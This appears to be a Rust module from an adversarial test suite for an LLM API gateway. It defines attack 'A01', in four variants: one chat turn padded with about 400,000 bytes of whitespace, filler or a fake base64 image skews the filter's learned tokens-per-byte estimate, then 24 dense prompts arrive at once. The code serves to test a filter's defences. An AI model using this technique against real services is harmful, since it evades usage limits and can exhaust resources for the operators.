//! A01: one padded turn teaches the filter that a byte is next to no token; then a burst of dense text.

use super::Kind;
use crate::attack::kinds::bodies::{chat, chat_parts, prose};
use crate::attack::wire::Leave;
use crate::attack::world::Campaign;

pub const KIND: Kind = Kind::new(
    "learned_ratio",
    "A01",
    "a padded turn lowers the learned tokens per byte, then 24 long prompts at once",
    |campaign| Box::pin(play(campaign)),
)
.in_variants(4);

const BYTES: usize = 400_000;
const AT_ONCE: u64 = 24;

async fn play(campaign: Campaign) {
    let marker = campaign.marker();
    let padded = match campaign.variant(4) {
        0 => chat(&marker, "Hello", &format!(r#""max_tokens":1{}"#, " ".repeat(BYTES))),
        1 => chat(&marker, "Hello", &format!(r#""max_tokens":1{}"#, "\r\n\t ".repeat(BYTES / 4))),
        2 => chat(&marker, "Hello", &format!(r#""max_tokens":1,"padding":"{}""#, "x".repeat(BYTES))),
        _ => {
            let part = r#"{"type":"image_url","image_url":{"url":"data:image/png;base64,"#;
            chat_parts(&marker, &format!(r#"{part}{}"}}}}"#, "A".repeat(BYTES)), r#""max_tokens":1"#)
        }
    };
    campaign.turn(padded, Leave::Never).await;
    let text = prose(BYTES);
    campaign.burst(AT_ONCE, |_| chat(&marker, &text, r#""max_tokens":1"#), Leave::Never).await;
}
